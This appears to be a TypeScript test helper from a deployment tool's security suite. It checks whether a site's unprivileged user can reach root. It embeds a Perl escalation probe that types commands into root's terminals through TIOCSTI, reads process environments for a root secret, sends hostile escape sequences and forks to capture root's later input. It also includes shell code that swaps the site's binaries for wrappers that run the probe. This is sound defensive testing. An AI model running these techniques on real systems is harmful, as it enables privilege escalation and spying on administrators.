import type { BareMachine } from './bare-machine.ts';

/** A variable of root's environment that must not reach a process of the site's user. */
export const ROOT_SECRET = 'ROOT_SECRET';

/** File that an attack creates when its own command was typed at root's terminal. */
export const TAKEN = '/root/taken';

/** Findings of the hostile program. */
const REPORT = '/var/tmp/attack.txt';
const PROGRAM = '/usr/local/bin/attack';

/** Tries to escalate from the site's user to root, and reports what succeeded. */
const ATTACK = `use strict;
open(my $report, '>>', '${REPORT}'); select($report); $| = 1;
sub read_file { open(my $file, '<', $_[0]) or return ''; local $/; <$file> // ''; }
sub type_into {
  my ($file, $name) = @_;
  for my $letter (split //, "touch ${TAKEN}\\n") { ioctl($file, 0x5412, $letter) or return; }
  print "typed into $name\\n";
}
sub fields { my $stat = read_file("/proc/$_[0]/stat"); $stat =~ s/.*\\) //s; split / /, $stat; }
sub is_root { (stat "/proc/$_[0]")[4] == 0; }

for my $process ($$, getppid()) {
  for my $link (glob "/proc/$process/fd/*") {
    my $target = readlink($link) // next;
    next if $target =~ m{^(/dev/(null|urandom)|pipe:|socket:|anon_inode:|${REPORT}|${PROGRAM}|/proc/|/usr/bin/|/opt/pamoja/releases/)};
    print "holds $target\\n";
    my ($number) = $link =~ m{(\\d+)$};
    my ($own, $opened);
    type_into($own, $target) if $process == $$ && open($own, '+<&=', $number);
    type_into($opened, $target) if open($opened, '+<', $link);
  }
  print "knows the secret\\n" if read_file("/proc/$process/environ") =~ /${ROOT_SECRET}=/;
  print "may stop root's process\\n" if is_root($process) && kill('CONT', $process);
}
for my $terminal ('/dev/tty', '/dev/console', glob '/dev/pts/[0-9]*') {
  next unless open(my $file, '+<', $terminal);
  print "opened $terminal\\n";
  type_into($file, $terminal);
}
my $session = (fields($$))[3];
print "is in a session of root's\\n" if is_root($session);
print "may gain rights\\n" unless read_file('/proc/self/status') =~ /^NoNewPrivs:\\t1/m;
print "works in root's folder\\n" if readlink('/proc/self/cwd') =~ m{^/root};

# Orders to a terminal: a title, a question that it answers by typing, a line over the one before, reversed letters.
for my $output (1, 2) {
  open(my $file, '>&=', $output);
  syswrite($file, "\\e]0;taken\\a\\e[6n\\xc2\\x9b6n\\xc2\\xc2\\x9b\\x9b6nsafe\\rtaken\\xe2\\x80\\xae\\n");
}
# It stays, and reads what root types afterwards.
if (fork() == 0) {
  $SIG{HUP} = 'IGNORE';
  for my $number (1, 2) { last if fork() == 0; open(STDIN, '<&', $number); }
  while (<STDIN>) { print "read $_"; }
  sleep 600;
  exit;
}
print "done\\n";
exit 3;
`;

/**
 * Makes the attack run in place of a program wherever the site's user runs it, as if that process were
 * compromised.
 */
const TAKE_OVER = (program: string) => `[ -e ${program}.whole ] || cp -a ${program} ${program}.whole
cat >${program}.new <<'END'
#!/bin/sh
[ "$(id -un)" != pamoja ] || exec perl ${PROGRAM}
exec ${program}.whole "$@"
END
chmod 755 ${program}.new; mv ${program}.new ${program}`;

/**
 * Compromises programs of an installed site; the modules that they load are as hostile as their processes.
 */
export async function takeOver(machine: BareMachine, programs: readonly string[]): Promise<void> {
  const bytes = Buffer.from(ATTACK).toString('base64');
  const lines = [`echo ${bytes} | base64 -d >${PROGRAM}`, ...programs.map(TAKE_OVER)];
  const { said } = await machine.run(lines.join('\n'));
  if (said !== '') throw new Error(said);
}

/** Restores the programs. */
export async function giveBack(machine: BareMachine, programs: readonly string[]): Promise<void> {
  for (const program of programs)
    await machine.run(`[ ! -e ${program}.whole ] || mv ${program}.whole ${program}`);
}

/** Removes what an attack has left. @returns what succeeded, and the number of attempts. */
export async function attackReport(machine: BareMachine): Promise<{ deeds: string[]; attacks: number }> {
  const { said } = await machine.run(`for process in /proc/[0-9]*; do
  if [ "$(stat -c %U $process)" = pamoja ] && grep -aq perl $process/cmdline; then kill -9 \${process#/proc/}; fi
done 2>/dev/null
cat ${REPORT}; rm -f ${REPORT}; ls ${TAKEN} 2>/dev/null; rm -f ${TAKEN}`);
  const lines = said.split('\n').filter((line) => line !== '');
  return {
    deeds: lines.filter((line) => line !== 'done'),
    attacks: lines.filter((line) => line === 'done').length,
  };
}
